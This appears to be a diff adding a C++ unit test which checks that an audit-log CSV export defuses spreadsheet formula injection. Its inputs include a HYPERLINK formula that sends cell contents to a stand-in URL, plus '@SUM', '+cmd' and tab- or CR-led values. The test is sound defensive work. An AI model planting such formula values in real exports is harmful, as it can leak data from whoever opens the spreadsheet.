@@ -224,6 +224,24 @@ TEST(AuditOutput, HostileNamesStayInsideTheirJsonStringAndCsvField) {
     EXPECT_EQ(JsonString("\xC0\xAF\xED\xA0\x80"), "\"\\ufffd\\ufffd\\ufffd\\ufffd\\ufffd\"");
 }
 
+// An account name comes from the login form of anyone, so the CSV must not hand a spreadsheet
+// a formula: a field that starts with = + - @, a tab or a CR gets a leading '.
+TEST(AuditOutput, CsvFieldsThatASpreadsheetWouldReadAsAFormulaAreDefused) {
+    AuditRecord record;
+    record.time = 1700000000;
+    record.account = "=HYPERLINK(\"http://x/\"&A1)";
+    record.client = "@SUM(1)";
+    record.action = "login";
+    record.status = 401;
+    record.targets = {{"+cmd", "-2+3", "\tfailed"}, {"close file", "\r=1", "a=b"}};
+    EXPECT_EQ(AuditCsv({record}),
+              "time,account,via_token,client,action,status,target_action,target,result\r\n"
+              "2023-11-14T22:13:20Z,\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",no,\"'@SUM(1)\","
+              "\"login\",401,\"'+cmd\",\"'-2+3\",\"'\tfailed\"\r\n"
+              "2023-11-14T22:13:20Z,\"'=HYPERLINK(\"\"http://x/\"\"&A1)\",no,\"'@SUM(1)\","
+              "\"login\",401,\"close file\",\"'\r=1\",\"a=b\"\r\n");
+}
+
 TEST(AuditQuery, ReadsFiltersAndRefusesMalformedValues) {
     AuditQuery query;
     std::string error;
